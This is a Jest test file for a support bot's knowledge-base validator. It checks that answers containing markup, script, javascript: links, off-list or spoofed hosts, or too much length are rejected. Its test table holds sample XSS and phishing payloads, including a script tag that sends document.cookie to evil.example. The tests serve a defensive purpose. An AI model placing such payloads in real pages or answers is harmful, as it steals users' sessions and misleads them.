import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { main } from '../../bot/kb/cli';

/**
 * What a lead types as an answer is checked where every answer is checked: `kb check` refuses
 * markup, active and plain-http links, links and images to hosts not on KB_LINK_HOSTS, and an
 * answer longer than one chat bubble, naming the file, the entry and why.
 */

const HOSTS = 'help.kefu.example';

function entry(id: string, answer: string): string {
  return `- id: ${id}\n  locale: zh-CN\n  question: 问题 ${id}\n  alternates:\n    - 另一种问法 ${id}\n  answer: ${JSON.stringify(answer)}\n`;
}

function kbDir(yaml: string): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'kefu-answers-'));
  fs.mkdirSync(path.join(dir, 'zh-CN'));
  fs.writeFileSync(path.join(dir, 'zh-CN', 'lead.yaml'), yaml);
  return dir;
}

async function check(dir: string): Promise<{ code: number; out: string; err: string[] }> {
  const out: string[] = [];
  const err: string[] = [];
  const log = jest.spyOn(console, 'log').mockImplementation((...a: unknown[]) => void out.push(a.join(' ')));
  const error = jest.spyOn(console, 'error').mockImplementation((...a: unknown[]) => void err.push(a.join(' ')));
  try {
    return { code: await main(['check'], { KB_DIR: dir, KB_LINK_HOSTS: HOSTS, KB_SIGNALS_FILE: '' }), out: out.join('\n'), err };
  } finally {
    log.mockRestore();
    error.mockRestore();
  }
}

const HOSTILE: [string, string, RegExp][] = [
  ['html-tag', '请点击<b onclick="steal()">这里</b>解锁。', /markup <b onclick="steal\(\)">: answers are plain text/],
  ['script-tag', '您好<script>fetch("https://evil.example/"+document.cookie)</script>', /markup <script>/],
  ['javascript-link', '请[点此解锁](javascript:alert(document.cookie))。', /"javascript:".*https:\/\//],
  ['http-link', '详见[帮助中心](http://help.kefu.example/unlock)。', /links to "http:\/\/help\.kefu\.example\/unlock": a link must start with https:\/\//],
  ['other-host-link', '详见[帮助中心](https://help.kefu.example.evil.example/unlock)。', /links to help\.kefu\.example\.evil\.example, which is not on KB_LINK_HOSTS \(allowed: help\.kefu\.example\)/],
  ['credentials-link', '详见[帮助中心](https://help.kefu.example@evil.example/)。', /a link names a host only, no user, password or port/],
  ['other-host-image', '步骤如图：![截图](https://tracker.evil.example/p.png)', /an image \(!\[…\]\(https:\/\/tracker\.evil\.example\/p\.png\)\): an answer is text/],
  ['bare-address', '请访问 https://evil.example/unlock 自助解锁。', /links to evil\.example, which is not on KB_LINK_HOSTS/],
  ['reference-link', '详见[帮助中心]。\n\n[帮助中心]: https://evil.example/help', /links to evil\.example, which is not on KB_LINK_HOSTS/],
  ['too-long', '解锁步骤说明。'.repeat(72), /is 504 characters; one chat bubble holds at most 500 in zh-CN/],
];

test.each(HOSTILE)('%s: kb check refuses it with the file, the entry and the reason', async (id, answer, reason) => {
  const { code, err } = await check(kbDir(entry('good-one', '请在“我”→“账户安全”中解锁。') + entry(id, answer)));
  expect(code).toBe(1);
  const lines = err.filter((line) => line.includes(`entry ${id}`));
  expect(lines.length).toBeGreaterThan(0);
  for (const line of lines) expect(line).toMatch(new RegExp(`zh-CN/lead\\.yaml: entry ${id}: field answer: `));
  expect(lines.join('\n')).toMatch(reason);
  expect(err.join('\n')).not.toContain('good-one');
});

test('Markdown emphasis, lists, a < sign and an https link to an allowed host pass', async () => {
  const answer = '**先确认**：\n\n- 余额 < 500 元时可直接解锁\n- 详见[帮助中心](https://help.kefu.example/unlock?from=kefu#steps)\n\n也可以打开 https://help.kefu.example/faq 查看。';
  const { code, out, err } = await check(kbDir(entry('fine-answer', answer)));
  expect(err).toEqual([]);
  expect(code).toBe(0);
  expect(out).toContain('OK: 1 entries');
});

test('with no KB_LINK_HOSTS an answer holds no links, and the reason says none are allowed', async () => {
  const dir = kbDir(entry('any-link', '详见[帮助中心](https://help.kefu.example/unlock)。'));
  const error = jest.spyOn(console, 'error').mockImplementation(() => undefined);
  try {
    expect(await main(['check'], { KB_DIR: dir, KB_SIGNALS_FILE: '' })).toBe(1);
    expect(error.mock.calls.map((call) => call.join(' ')).join('\n')).toMatch(/entry any-link: field answer: links to help\.kefu\.example, which is not on KB_LINK_HOSTS \(allowed: none yet\)/);
  } finally {
    error.mockRestore();
  }
});
